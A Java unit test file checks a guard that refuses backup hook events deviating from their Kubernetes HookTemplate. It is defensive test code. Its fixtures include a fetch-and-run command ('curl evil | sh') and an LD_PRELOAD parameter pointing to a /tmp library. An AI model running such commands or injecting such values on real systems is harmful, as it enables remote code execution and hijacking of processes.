package io.hookstream.worker.internal.templates;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import io.hookstream.schemas.Json;
import io.hookstream.schemas.event.HookEvent;
import io.hookstream.schemas.event.ObjectReference;
import io.hookstream.schemas.event.Phase;
import io.hookstream.schemas.event.SessionSummary;
import io.hookstream.schemas.event.TemplateRef;
import io.hookstream.schemas.template.ExecAction;
import io.hookstream.schemas.template.ExecutorType;
import io.hookstream.schemas.template.HookAction;
import io.hookstream.schemas.template.HookExecutor;
import io.hookstream.schemas.template.HookTemplate;
import io.hookstream.templates.render.ActionRenderer;
import io.hookstream.templates.render.RenderContext;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TemplateGuardTest {

    private static final YAMLMapper YAML = Json.configure(YAMLMapper.builder()).build();

    private static final HookTemplate DUMP = template("""
            apiVersion: core.kubestash.com/v1alpha1
            kind: HookTemplate
            metadata: {name: dump, namespace: demo}
            spec:
              usagePolicy:
                allowedNamespaces:
                  from: Selector
                  selector: {matchLabels: {tier: production}}
              params:
              - {name: DB, required: true}
              action:
                exec:
                  command: ["pg_dump", "--dbname", "{{ .Params.DB }}", "--namespace={{ .Namespace }}"]
              executor: {type: Operator}
            """);
    private static final Map<String, String> PROD = Map.of("tier", "production", "kubernetes.io/metadata.name", "prod");

    @Test
    void anEventRenderedFromItsTemplateForAnAllowedNamespacePasses() {
        assertThat(TemplateGuard.problem(
                        event("prod", Map.of("DB", "orders"), rendered("prod", "orders"), operator()),
                        found(DUMP, PROD)))
                .isNull();
    }

    @Test
    void anInvokerNamespaceTheUsagePolicyDoesNotAllowIsRefused() {
        String problem = TemplateGuard.problem(
                event("dev", Map.of("DB", "orders"), rendered("dev", "orders"), operator()),
                found(DUMP, Map.of("tier", "dev", "kubernetes.io/metadata.name", "dev")));

        assertThat(problem).contains("demo/dump", "namespace 'dev'", "does not match");
    }

    @Test
    void anActionTheTemplateDoesNotRenderIsRefusedEvenWithAllowedNamespaceAndParams() {
        HookAction widened =
                new HookAction(new ExecAction(List.of("/bin/sh", "-c", "curl evil | sh")), null, null, null, null);

        String problem =
                TemplateGuard.problem(event("prod", Map.of("DB", "orders"), widened, operator()), found(DUMP, PROD));

        assertThat(problem).contains("action is not what HookTemplate demo/dump renders");
    }

    @Test
    void aParamValueChangedAfterRenderingIsRefusedAsAnActionMismatch() {
        String problem = TemplateGuard.problem(
                event("prod", Map.of("DB", "customers"), rendered("prod", "orders"), operator()), found(DUMP, PROD));

        assertThat(problem).contains("action is not what").doesNotContain("customers");
    }

    @Test
    void undeclaredParamsAreRefusedByName() {
        String problem = TemplateGuard.problem(
                event(
                        "prod",
                        Map.of("DB", "orders", "LD_PRELOAD", "/tmp/x.so"),
                        rendered("prod", "orders"),
                        operator()),
                found(DUMP, PROD));

        assertThat(problem).contains("[LD_PRELOAD]", "does not declare").doesNotContain("/tmp/x.so");
    }

    @Test
    void anotherExecutorThanTheTemplatesIsRefused() {
        String problem = TemplateGuard.problem(
                event(
                        "prod",
                        Map.of("DB", "orders"),
                        rendered("prod", "orders"),
                        new HookExecutor(ExecutorType.Pod, null, null)),
                found(DUMP, PROD));

        assertThat(problem).contains("executor is not the one HookTemplate demo/dump defines");
    }

    @Test
    void aMissingOrInvalidTemplateIsRefusedNamingIt() {
        HookEvent event = event("prod", Map.of("DB", "orders"), rendered("prod", "orders"), operator());

        assertThat(TemplateGuard.problem(event, new TemplateLookup.Found(null, PROD, null)))
                .contains("demo/dump does not exist");
        assertThat(TemplateGuard.problem(event, new TemplateLookup.Found(null, PROD, "it is invalid: [spec.action]")))
                .contains("demo/dump cannot be used: it is invalid");
    }

    // --- fixtures ---

    private static HookAction rendered(String namespace, String db) {
        return ActionRenderer.render(DUMP.spec().action(), new RenderContext(session(namespace), Map.of("DB", db)));
    }

    private static HookExecutor operator() {
        return new HookExecutor(ExecutorType.Operator, null, null);
    }

    private static TemplateLookup.Found found(HookTemplate template, Map<String, String> labels) {
        return new TemplateLookup.Found(template, labels, null);
    }

    private static SessionSummary session(String namespace) {
        return new SessionSummary(
                "s-1",
                namespace,
                new ObjectReference("core.kubestash.com", "BackupConfiguration", namespace, "pg"),
                null,
                null);
    }

    private static HookEvent event(
            String namespace, Map<String, String> params, HookAction action, HookExecutor executor) {
        return new HookEvent(
                "r/0",
                "r",
                Phase.PRE_BACKUP,
                0,
                1,
                "dump",
                new TemplateRef("dump", "demo"),
                session(namespace),
                executor,
                action,
                params,
                0,
                "30s",
                Instant.now(),
                null,
                null,
                null,
                null,
                null);
    }

    private static HookTemplate template(String yaml) {
        try {
            return YAML.readValue(yaml, HookTemplate.class);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
